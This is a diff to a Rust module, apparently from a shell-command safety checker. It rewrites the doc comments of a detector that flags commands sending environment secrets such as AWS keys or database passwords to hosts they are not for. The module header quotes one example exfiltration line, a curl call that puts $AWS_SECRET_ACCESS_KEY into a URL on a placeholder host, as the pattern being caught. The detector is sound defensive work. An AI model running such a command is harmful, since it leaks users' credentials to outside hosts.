@@ -1,14 +1,16 @@
-//! Secrets of the environment that a command sends to a host they are not for: `curl "https://h/?k=$AWS_SECRET_ACCESS_KEY"`.
+//! Detects environment secrets that a command sends to a host that they are not for: `curl
+//! "https://h/?k=$AWS_SECRET_ACCESS_KEY"`.
 //!
-//! The value of a variable is unknown, so its name decides. The key of a known service may be sent to that service only.
-//! Database passwords and signing keys may be sent to no host. Any other secret may be sent where the request labels it as
-//! a credential (`Authorization:`, `?api_key=`). Loopback and private networks are exempt.
+//! The value of a variable is unknown, so its name decides. The key of a known service may be sent
+//! to that service only. Database passwords and signing keys may be sent to no host. Any other
+//! secret may be sent where the request labels it as a credential (`Authorization:`, `?api_key=`).
+//! Loopback and private networks are exempt.
 
 use super::facts::Facts;
 use super::options::{self, Argument};
 use super::value::Taint;
 
-/// Last words of the names of secrets.
+/// Last words in the names of secrets.
 const SECRET: [&str; 19] = [
     "TOKEN",
     "TOKENS",
@@ -30,7 +32,8 @@ const SECRET: [&str; 19] = [
     "COOKIE",
     "BEARER",
 ];
-/// With one of these before it, `KEY` is a secret, and `KEY` and `URL` behind the names of services and databases.
+/// Words that make a following `KEY` a secret. `KEY` is also one after the name of a service, and
+/// `URL` after that of a database.
 const KEYS: [&str; 12] = [
     "API",
     "SECRET",
@@ -45,9 +48,10 @@ const KEYS: [&str; 12] = [
     "ROLE",
     "SSH",
 ];
-/// With one of these in it the name is that of something public.
+/// Words that make a name one of something public.
 const PUBLIC: [&str; 4] = ["PUBLIC", "PUB", "PUBLISHABLE", "ANON"];
-/// Words of credentials that no request over HTTP carries: database passwords, signing keys, keys of this machine.
+/// Words in the names of credentials that no HTTP request carries: database passwords, signing
+/// keys, keys of this machine.
 const NEVER_SENT: [&str; 26] = [
     "DATABASE",
     "DB",
@@ -76,8 +80,8 @@ const NEVER_SENT: [&str; 26] = [
     "DJANGO",
     "KEYSTORE",
 ];
-/// Services by words of their variables' names, and the domains that their keys are for. What has no dot is a label of a
-/// host of one's own: `gitlab.example.org`.
+/// Services by words in the names of their variables, and the domains that their keys are for. An
+/// entry without a dot is a label in the name of a self-hosted server: `gitlab.example.org`.
 const SERVICES: [(&str, &str); 52] = [
     (
         "GITHUB GH",
@@ -200,7 +204,7 @@ const BODIES: [&str; 13] = [
     "post-data",
 ];
 
-/// Whether a variable of this name holds a secret.
+/// Reports whether a variable of this name contains a secret.
 pub(super) fn is_secret(name: &str) -> bool {
     if name.len() < 3
         || name.len() > 128
@@ -235,7 +239,7 @@ pub(super) fn is_secret(name: &str) -> bool {
         }
 }
 
-/// Whether a command sends a secret of the environment to a host that it is not for.
+/// Reports whether a command sends an environment secret to a host that it is not for.
 pub(super) fn exposes_secret(facts: &Facts) -> bool {
     let piped = facts.stdin.meets(Taint::SECRET_VARIABLE);
     let told = || {
@@ -277,7 +281,7 @@ pub(super) fn exposes_secret(facts: &Facts) -> bool {
     }
 }
 
-/// A request over HTTP.
+/// Reports whether an HTTP request exposes a secret.
 fn request_exposes(facts: &Facts, piped: bool) -> bool {
     let mut parsed = facts
         .known
@@ -336,7 +340,7 @@ fn request_exposes(facts: &Facts, piped: bool) -> bool {
             matches!(argument, Argument::Option(name, Some(value)) if BODIES.contains(name) && value.ends_with('-') && value.len() <= 32)
         })
     };
-    // Encoded on the way: only where it stands is known.
+    // If a secret was encoded on the way, its name is unknown and only its position counts.
     let encoded = || {
         let mut option = "";
         facts.arguments().iter().any(|field| {
@@ -349,7 +353,7 @@ fn request_exposes(facts: &Facts, piped: bool) -> bool {
                 .text
                 .find(super::value::UNKNOWN)
                 .unwrap_or(field.text.len());
-            // In the address itself nothing that is encoded is shown to be a secret.
+            // In the URL itself, an encoded value is never labelled as a credential.
             hidden && !login && (field.text.contains("://") || !is_named(&field.text, at))
         })
     };
@@ -361,7 +365,7 @@ fn request_exposes(facts: &Facts, piped: bool) -> bool {
         || encoded()
 }
 
-/// The secret variables that a text refers to, with their offsets.
+/// Returns the secret variables that a text refers to, with their offsets.
 fn secret_names(text: &str) -> impl Iterator<Item = (usize, &str)> {
     text.match_indices('$').filter_map(|(at, _)| {
         let rest = text.get(at + 1..)?;
@@ -375,8 +379,8 @@ fn secret_names(text: &str) -> impl Iterator<Item = (usize, &str)> {
     })
 }
 
-/// Whether a request says at `at` that what follows is a secret: behind the name of a header or a field that is for one,
-/// or in the path of a URL.
+/// Reports whether the request labels the text at `at` as a secret: the text follows the name of a
+/// header or field for one, or is in the path of a URL.
 fn is_named(text: &str, at: usize) -> bool {
     let before = text.get(..at).unwrap_or_default();
     let before = before.rsplit(['&', ',', '\n']).next().unwrap_or(before);
@@ -391,7 +395,7 @@ fn is_named(text: &str, at: usize) -> bool {
     NAMES.iter().any(|name| before.contains(name))
 }
 
-/// The domains that keys of the service are for that a variable is named after.
+/// Returns the domains for the keys of the service that a variable is named after.
 fn service_of(name: &str) -> Option<&'static str> {
     name.split('_').find_map(service)
 }
@@ -414,7 +418,7 @@ fn is_service_host(domains: &str, host: &str) -> bool {
     })
 }
 
-/// Whether a word of a variable's name is in the host's.
+/// Reports whether a word of a variable's name is part of the host's name.
 fn is_word_of(word: &str, host: &str) -> bool {
     let generic = KEYS.contains(&word)
         || SECRET.contains(&word)
@@ -426,7 +430,7 @@ fn is_word_of(word: &str, host: &str) -> bool {
             .contains(&word.to_ascii_lowercase())
 }
 
-/// The host of a URL, without port and user.
+/// Returns the host of a URL, without port and user.
 fn host(url: &str) -> &str {
     let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
     let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
@@ -436,7 +440,7 @@ fn host(url: &str) -> &str {
     host.split(':').next().unwrap_or(host)
 }
 
-/// Whether a host is this machine or one of a private network.
+/// Reports whether a host is this machine or in a private network.
 fn is_inside(host: &str) -> bool {
     let second = || {
         host.split('.')
